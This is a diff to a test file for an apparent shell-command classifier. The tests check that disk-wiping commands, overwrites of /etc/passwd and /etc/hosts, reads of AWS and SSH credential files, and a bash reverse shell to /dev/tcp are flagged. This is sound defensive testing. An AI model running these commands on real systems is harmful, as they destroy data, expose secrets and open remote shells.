@@ -354,6 +354,30 @@ describe('classifyCommand', () => {
     }
   });
 
+  it('knows disk erasers, overwrites of system files, and credentials read after a cd', () => {
+    for (const command of [
+      'blkdiscard /dev/sda',
+      'sgdisk --zap-all /dev/sda',
+      'cryptsetup luksFormat /dev/sdb',
+      'zpool destroy tank',
+      'cp /dev/null /etc/passwd',
+      'mv ./hosts /etc/hosts',
+    ]) {
+      expect(classes(command), command).toEqual(['destructive']);
+    }
+    for (const command of [
+      'sgdisk -p /dev/sda',
+      'cryptsetup status root',
+      'cp a.txt /tmp/b.txt',
+      'zpool list',
+    ]) {
+      expect(classes(command), command).toEqual([]);
+    }
+    expect(classes('cd ~/.aws; cat credentials')).toEqual(['credentials']);
+    expect(classes('cd ~/.ssh && cat id_ed25519')).toEqual(['credentials']);
+    expect(classes('cd ~/project; cat README.md')).toEqual([]);
+  });
+
   it('knows a connection through /dev/tcp, and a shell on one runs what it is sent', () => {
     expect(classes('echo hi > /dev/tcp/example.com/80')).toEqual(['network']);
     expect(classes('bash -i >& /dev/tcp/10.0.0.1/4242 0>&1')).toEqual(['downloadExec', 'network']);
